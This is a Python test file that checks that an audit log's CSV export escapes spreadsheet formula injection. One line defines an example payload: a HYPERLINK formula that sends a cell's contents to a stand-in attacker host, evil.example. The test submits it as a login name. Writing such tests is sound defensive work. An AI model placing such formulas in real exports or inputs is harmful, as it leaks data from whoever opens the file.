"""Issue 15, point 5: the auditor's CSV export never hands a spreadsheet a formula.  A
sign-in name such as `=HYPERLINK(...)` lands in the log as it was typed, and in the export
behind an apostrophe (OWASP's advice for CSV), as does any text cell that could start one."""

from __future__ import annotations

import csv
import io
import json

import pytest

from app.store.audit import spreadsheet_safe
from tests.support.stations import RunningStation, form_token

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def test_a_formula_typed_as_a_user_name_is_escaped_in_the_export(
    station: RunningStation,
) -> None:
    attacker = station.client()
    form = {"name": FORMULA, "password": "whatever", "csrf_token": ""}
    form["csrf_token"] = form_token(attacker.get("/login").text)
    assert attacker.post("/login", data=form).status_code == 401
    station.built.server.failure_writer.flush(everything=True)  # its record (per block)
    auditor = station.client()
    station.login(auditor, "auditor")
    export = auditor.get("/audit.csv", params={"kind": "login"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    failed = [row for row in rows if row["subject"] == "failed"]
    assert [row["user"] for row in failed] == [""]  # a typed name is no user's
    assert FORMULA in json.loads(failed[0]["detail"])["names"]
    cells = [cell for row in rows for key, cell in row.items() if key not in ("id", "time")]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the log itself keeps what was typed
    with station.built.server.store.engine.connect() as connection:
        kept = connection.exec_driver_sql(
            "SELECT detail FROM audit WHERE kind = 'login' AND subject = 'failed'"
        ).scalar()
    assert json.loads(str(kept))["names"] == [FORMULA]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_is_left_alone() -> None:
    assert spreadsheet_safe("r1.goto_home") == "r1.goto_home"
    assert spreadsheet_safe("{}") == "{}"
